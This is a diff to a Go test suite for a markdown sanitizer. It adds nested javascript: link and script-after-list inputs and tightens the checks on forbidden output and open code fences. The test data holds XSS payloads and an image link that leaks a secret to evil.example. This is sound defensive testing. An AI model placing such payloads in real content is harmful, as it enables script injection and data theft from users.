@@ -108,6 +108,8 @@ var hostileText = []string{
 	"[x](javascript:alert(3)) [y]( JAVASCRIPT:alert(4)) [z](data:text/html,<b>) <javascript:alert(5)>",
 	"![t](https://evil.example/?leak=secret)",
 	"[r]: javascript:alert(6)",
+	"> [q]: javascript:alert(7)\n- [l]: <javascript:alert(8)>\n[q] [l]",
+	"1. item\n   ```\n   code\n<script>after the list</script>",
 	"```\nnever closed <b>",
 	"~~~~\n<script>x</script>\n~~~",
 	"` <b>code</b> ` and ` unclosed <i>",
@@ -125,12 +127,12 @@ func TestSafeMarkdownNeutralises(t *testing.T) {
 			}
 		}
 		outside := codeless(out)
-		for _, bad := range []string{"<script", "<img", "<iframe", "<b>", "<i>", "](javascript", "]( JAVASCRIPT", "](data:", "<javascript", "![", "\n[r]:"} {
+		for _, bad := range []string{"<script", "<img", "<iframe", "<b>", "<i>", "](javascript", "]( JAVASCRIPT", "](data:", "<javascript", "![", "]: javascript", "]: <javascript", "<script>after"} {
 			if strings.Contains(outside, bad) {
 				t.Errorf("safeMarkdown(%q) = %q: %q outside code", s, out, bad)
 			}
 		}
-		if strings.Count(out, "```")%2 != 0 {
+		if strings.Count("\n"+out, "\n```")%2 != 0 {
 			t.Errorf("safeMarkdown(%q) = %q: a fence left open", s, out)
 		}
 		if s := summaryText(s); strings.ContainsAny(s, "<>\x1b") {
